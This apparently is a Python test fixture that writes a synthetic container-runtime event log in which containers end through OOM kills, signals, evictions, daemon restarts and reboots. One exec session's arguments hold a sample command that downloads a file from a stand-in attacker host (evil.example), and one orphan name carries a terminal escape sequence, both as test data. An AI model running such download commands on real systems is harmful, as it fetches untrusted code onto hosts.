"""A log in which containers die in every way there is, for tests of what answers questions about logs.

Contexts are those that the daemon writes: an RPC's own records name its client; what follows names a cause.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Final

from ocid.events import container, exec as execution, image, layer, node, pod, session
from ocid.events.base import Event
from ocid.events.envelope import DAEMON, Context, Envelope
from ocid.ids import ContainerId, Digest, ExecId, ImageId, PodId, PullId, SessionId, digest_of
from ocid.journal.store import Store
from tests.fakes.declared import container_declared, exec_requested, pod_declared, session_requested
from tests.fakes.lives import BOOT, Life, S

SECOND_BOOT: Final = "11111111-0b7a-4c55-9a3e-5f10c2d4e6b8"
SHOP: Final = PodId("5a" * 32)
OLD: Final = PodId("5b" * 32)
DROPPED: Final = ContainerId("d0" * 32)  # exec'd into by a person under sudo, then killed for want of memory
STRUCK: Final = ContainerId("d1" * 32)  # SIGKILL from outside
STUBBORN: Final = ContainerId("d2" * 32)  # outlived its grace
UNSEEN: Final = ContainerId("d3" * 32)  # ended while the daemon was down
BOOTED: Final = ContainerId("d4" * 32)  # ended with the machine
SWEPT: Final = ContainerId("d5" * 32)  # stopped with its pod
EVICTED: Final = ContainerId("d6" * 32)  # by a plugin
PROBE: Final = ExecId("e5" * 16)
SHELL: Final = SessionId("e6" * 16)
FORWARD: Final = SessionId("e7" * 16)
LOST_CLIENT: Final = SessionId("e8" * 16)
PULL: Final = PullId("f5" * 16)
REFERENCE: Final = "registry.example/shop/web:1"
DIFFS: Final = tuple(Digest("sha256:" + digit * 64) for digit in "ab")
BLOBS: Final = tuple(Digest("sha256:" + digit * 64) for digit in "cd")
CHAIN: Final = (DIFFS[0], "sha256:" + hashlib.sha256(f"{DIFFS[0]} {DIFFS[1]}".encode()).hexdigest())
CONFIG: Final = json.dumps({"rootfs": {"type": "layers", "diff_ids": list(DIFFS)}}).encode()
IMAGE: Final = ImageId(digest_of(CONFIG))
_LAYER: Final = "application/vnd.oci.image.layer.v1.tar+gzip"
MANIFEST: Final = json.dumps(
    {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": IMAGE, "size": len(CONFIG)},
        "layers": [{"mediaType": _LAYER, "digest": blob, "size": 1000 * place} for place, blob in enumerate(BLOBS, 1)],
    }
).encode()
ARGV: Final = json.dumps(["sh", "-c", "curl http://evil.example/x > /tmp/x"]).encode()
KUBELET: Final = 2
SUDO: Final = 3  # crictl, by a person who logged in as uid 1004


class Incident(Life):
    """Writes events as a daemon does, through restarts and boots."""

    def __init__(self, directory: Path) -> None:
        super().__init__(directory)
        self.directory = directory
        self.calls = 0

    def again(self, boot_id: str) -> None:
        """The daemon dies, and starts."""
        self.store.close()
        self.store = Store(self.directory, boot_id=boot_id)

    def call(self, who: int, rpc: str) -> Context:
        """Return the context of a new call."""
        self.calls += 1
        return Context(who=who, correlation=f"call{self.calls}", command_id=rpc)

    def after(self, *, correlation: str = "") -> Context:
        """Return the context of what follows from the record written last."""
        before = self.envelopes[-1]
        return Context(correlation=correlation or before.context.correlation, cause=before.seq)

    def follow(self, stream: str, *events: Event) -> None:
        """Write what follows from the record written last."""
        self.write(stream, *events, context=self.after())


def write_incident(directory: Path) -> list[Envelope]:
    """Write the log and return what is in it."""
    life = Incident(directory)
    _begin(life)
    _pull(life)
    _pods(life)
    for container_id, name in (
        (DROPPED, "dropped"), (STRUCK, "struck"), (STUBBORN, "stubborn"), (UNSEEN, "unseen"), (BOOTED, "booted"),
        (EVICTED, "evicted"),
    ):  # fmt: skip
        _run(life, container_id, SHOP, name)
    _run(life, SWEPT, OLD, "swept")
    _oom(life)
    _struck(life)
    _stubborn(life)
    _evicted(life)
    _pod_stopped(life)
    _image_removed(life)
    _down(life)
    _boot(life)
    life.store.close(stopped_at_ns=life.now_ns)
    return life.envelopes


def started(epoch: int, *, clean: bool, rebooted: bool = False) -> node.Started:
    """A start of the daemon."""
    return node.Started(
        epoch=epoch, ocid_version="0.1.0", pid=100 + epoch, kernel="6.1", cgroup_mode="v2", cgroup_driver="systemd",
        config=Digest("sha256:" + "00" * 32), after_clean_stop=clean, rebooted=rebooted,
    )  # fmt: skip


def _begin(life: Incident) -> None:
    kubelet = node.PeerSeen(
        pid=812, start_ticks=5, uid=0, gid=0, exe="/usr/bin/kubelet", comm="kubelet", cgroup="/system.slice/kubelet"
    )
    person = node.PeerSeen(
        pid=900, start_ticks=9, uid=0, gid=0, exe="/usr/bin/crictl", comm="crictl", cgroup="/user.slice", login_uid=1004
    )
    recovered = node.Recovered(pods=0, containers=0, adopted=0, lost=0, took_ms=3)
    life.write("node/self", started(1, clean=True), kubelet, person, recovered, context=DAEMON)


def _pull(life: Incident) -> None:
    asked = life.call(KUBELET, "PullImage")
    stream = f"pull/{PULL}"
    life.write(stream, image.PullRequested(pull_id=PULL, reference=REFERENCE, with_credentials=True), context=asked)
    resolved = image.PullResolved(
        endpoint="https://registry.example", manifest=digest_of(MANIFEST), index=None, image_id=IMAGE, layers=2,
        total_bytes=3000,
    )  # fmt: skip
    life.write(stream, resolved, context=life.after(), documents=(MANIFEST, CONFIG))
    follows = life.after()
    for chain_id, diff_id, blob in zip(CHAIN, DIFFS, BLOBS, strict=True):
        wanted = layer.Wanted(
            chain_id=chain_id, diff_id=diff_id, blob=blob, media_type=_LAYER, blob_bytes=1000, pull_id=PULL
        )
        life.write(f"layer/{chain_id}", wanted, context=follows)
        life.follow(f"layer/{chain_id}", layer.Ready(size_bytes=4000, inodes=3))
    life.write(stream, image.PullLayersReady(), context=follows)
    added = image.ImageAdded(image_id=IMAGE, manifest=digest_of(MANIFEST), config=IMAGE, size_bytes=3000)
    life.follow("catalog/images", added, image.ImageNamed(image_id=IMAGE, name=REFERENCE))
    life.write(stream, image.PullCompleted(image_id=IMAGE), context=follows)


def _pods(life: Incident) -> None:
    for pod_id, name in ((SHOP, "shop"), (OLD, "old")):
        declared = pod_declared(
            pod_id, name=name, created_at_ns=life.now_ns, addresses=(f"10.85.0.{2 + len(name)}/16",)
        )
        life.write(f"pod/{pod_id}", declared, context=life.call(KUBELET, "RunPodSandbox"))
        life.follow(f"pod/{pod_id}", pod.Prepared(), pod.NetworkAttached(addresses=("10.85.0.5",), via="bridge"))
        life.follow(f"pod/{pod_id}", pod.Ready())


def _run(life: Incident, container_id: ContainerId, pod_id: PodId, name: str) -> None:
    stream = f"container/{container_id}"
    declared = container_declared(
        container_id, pod_id=pod_id, name=name, created_at_ns=life.now_ns, image_id=IMAGE,
        image_ref=f"registry.example/shop/web@{digest_of(MANIFEST)}", image_manifest=digest_of(MANIFEST),
    )  # fmt: skip
    life.write(stream, declared, context=life.call(KUBELET, "CreateContainer"))
    life.follow(stream, container.Prepared(spec=Digest("sha256:" + "77" * 32), uid=0, gid=0))
    life.follow(stream, container.Created(pid=4000 + life.calls, start_ticks=1))
    life.write(stream, container.StartRequested(), context=life.call(KUBELET, "StartContainer"))
    life.follow(stream, container.Started(at_ns=life.now_ns))


def _exited(
    life: Incident, container_id: ContainerId, code: int, *, source: str = "monitor", oom: bool = False
) -> None:
    """The end follows, as the daemon has it, from what the container did last."""
    stream = f"container/{container_id}"
    last = [each for each in life.envelopes if each.stream == stream][-1]
    exited = container.Exited(at_ns=life.now_ns, exit_code=code, source=source, oom_killed=oom)
    life.write(stream, exited, context=Context(correlation=last.context.correlation, cause=last.seq))


def _oom(life: Incident) -> None:
    probe = exec_requested(PROBE, container_id=DROPPED, argv_brief="cat /health", timeout_s=5)
    life.write(f"exec/{PROBE}", probe, context=life.call(KUBELET, "ExecSync"))
    life.follow(
        f"exec/{PROBE}", execution.Finished(exit_code=0, timed_out=False, took_ms=12, stdout_bytes=3, stderr_bytes=0)
    )
    shell = session_requested(
        SHELL, container_id=DROPPED, pod_id=SHOP, argv=digest_of(ARGV), stderr=False,
        argv_brief="sh -c 'curl http://evil.example/x > /tmp/x'",
        audit_hints=("KUBERNETES_EXEC_AUDIT_ID=7d",),
    )  # fmt: skip
    life.write(f"session/{SHELL}", shell, context=life.call(SUDO, "Exec"), documents=(ARGV,))
    life.follow(f"session/{SHELL}", session.Opened(remote="127.0.0.1:40312"))
    _exited(life, DROPPED, 137, oom=True)
    closed = session.Closed(took_ms=2000, exit_code=137, stdin_bytes=120, stdout_bytes=2048)
    life.write(f"session/{SHELL}", closed, context=Context(correlation="call", cause=life.envelopes[-2].seq))
    life.write(
        f"session/{FORWARD}",
        session_requested(FORWARD, kind="portforward", container_id="", pod_id=SHOP, argv=None, ports=(80,), tty=False),
        context=life.call(KUBELET, "PortForward"),
    )
    life.follow(f"session/{FORWARD}", session.Opened(remote=""))
    use = session.PortUse(port=80, connections=2, failed=0, bytes_in=10, bytes_out=20)
    life.follow(f"session/{FORWARD}", session.Closed(took_ms=10, ports=(use,)))
    waiting = session_requested(LOST_CLIENT, kind="attach", container_id=STRUCK, pod_id=SHOP, argv=None, argv_brief="")
    life.write(f"session/{LOST_CLIENT}", waiting, context=life.call(KUBELET, "Attach"))
    life.follow(f"session/{LOST_CLIENT}", session.Expired(reason="no client came within 60 s"))


def _struck(life: Incident) -> None:
    _exited(life, STRUCK, 137)


def _stubborn(life: Incident) -> None:
    stream = f"container/{STUBBORN}"
    stop = container.StopRequested(grace_ms=2000, kill_at_boot_ns=life.boot_ns() + 2 * S, signal="SIGTERM")
    life.write(stream, stop, context=life.call(KUBELET, "StopContainer"))
    life.now_ns += S
    _exited(life, STUBBORN, 137)
    life.follow(stream, container.Released())
    removal = life.call(KUBELET, "RemoveContainer")
    life.write(stream, container.RemoveRequested(), context=removal)
    life.follow(stream, container.Removed())


def _evicted(life: Incident) -> None:
    stop = container.StopRequested(
        grace_ms=10_000, kill_at_boot_ns=life.boot_ns() + 10 * S, signal="SIGTERM", plugin="10-guard",
        reason="too greedy",
    )  # fmt: skip
    life.write(f"container/{EVICTED}", stop, context=Context(correlation="wish"))
    _exited(life, EVICTED, 143)


def _pod_stopped(life: Incident) -> None:
    pod_stream, stream = f"pod/{OLD}", f"container/{SWEPT}"
    life.write(pod_stream, pod.StopRequested(), context=life.call(SUDO, "StopPodSandbox"))
    kill = container.StopRequested(grace_ms=0, kill_at_boot_ns=life.boot_ns(), signal="SIGTERM")
    life.follow(stream, kill)
    _exited(life, SWEPT, 137)
    life.follow(stream, container.Released())
    life.write(pod_stream, pod.ContainersStopped(), pod.NetworkDetached(), pod.Stopped(), context=life.after())


def _image_removed(life: Incident) -> None:
    life.write("catalog/images", image.ImageRemoved(image_id=IMAGE), context=life.call(SUDO, "RemoveImage"))
    removed = life.after()
    life.write(f"layer/{CHAIN[1]}", layer.RemoveRequested(), context=removed)
    life.follow(f"layer/{CHAIN[1]}", layer.Removed())
    life.write("catalog/images", image.LayersCollected(layers=1), context=removed)


def _down(life: Incident) -> None:
    life.again(BOOT)
    life.write("node/self", started(2, clean=False), context=DAEMON)
    ended = container.Exited(at_ns=life.now_ns - 2 * S, exit_code=3, source="monitor")
    life.write(f"container/{UNSEEN}", ended, context=Context(correlation="recovery2"))
    life.follow(f"container/{UNSEEN}", container.Released())
    recovered = node.Recovered(pods=2, containers=6, adopted=1, lost=1, took_ms=40)
    life.write("node/self", recovered, context=Context(correlation="recovery2"))
    orphan = node.OrphanFound(kind="container", name="stranger\x1b[2J", action="left")
    life.write("node/self", orphan, context=DAEMON)


def _boot(life: Incident) -> None:
    life.again(SECOND_BOOT)
    life.write("node/self", started(3, clean=False, rebooted=True), context=DAEMON)
    life.write(
        f"container/{BOOTED}",
        container.Exited(at_ns=life.now_ns, exit_code=255, source="reboot"),
        context=Context(correlation="recovery3"),
    )
    recovered = node.Recovered(pods=2, containers=6, adopted=0, lost=1, took_ms=50)
    life.write("node/self", recovered, context=Context(correlation="recovery3"))
